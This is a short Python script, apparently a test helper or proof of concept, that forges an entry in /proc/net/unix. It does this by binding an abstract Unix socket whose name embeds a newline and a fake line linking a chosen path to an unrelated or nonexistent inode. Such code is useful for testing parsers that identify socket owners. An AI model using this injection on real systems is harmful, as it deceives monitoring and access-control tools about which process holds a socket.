"""Binds a name in another network which looks like the line of a socket that has a path.

Usage: spoof.py (inet | unix | inherited | missing) PATH: which socket has the inode in that line, one
of a process that has nothing to do with the path.
"""

import os
import socket
import sys
import time


def inode_of(one):
    return os.fstat(one.fileno()).st_ino


def enter_network(*arguments):
    os.execvp("unshare", ["unshare", "--net", "python3", __file__, *arguments])


def innocent(family):
    one = socket.socket(family)
    one.bind("innocent.sock" if family == socket.AF_UNIX else ("", 0))
    one.listen()
    return one


kind, path, *inode = sys.argv[1:]
if not inode:
    if kind == "inherited":
        kept, other = socket.socketpair()
        kept.set_inheritable(True)
        enter_network("forge", path, str(inode_of(kept)))
    enter_network(kind, path, "0")

if kind in ("inet", "unix"):
    if os.path.exists("innocent.sock"):
        os.remove("innocent.sock")
    kept = innocent(socket.AF_INET if kind == "inet" else socket.AF_UNIX)
    if os.fork() == 0:
        time.sleep(60)
    inode = [str(inode_of(kept))]
    kept.close()
if kind == "missing":
    inode = ["4294967294"]

forged = f"ffff: 00000002 00000000 00010000 0001 01 {inode[0]} {path}"
name = socket.socket(socket.AF_UNIX)
name.bind(b"\0x\n" + forged.encode())
print("holding", flush=True)
time.sleep(60)
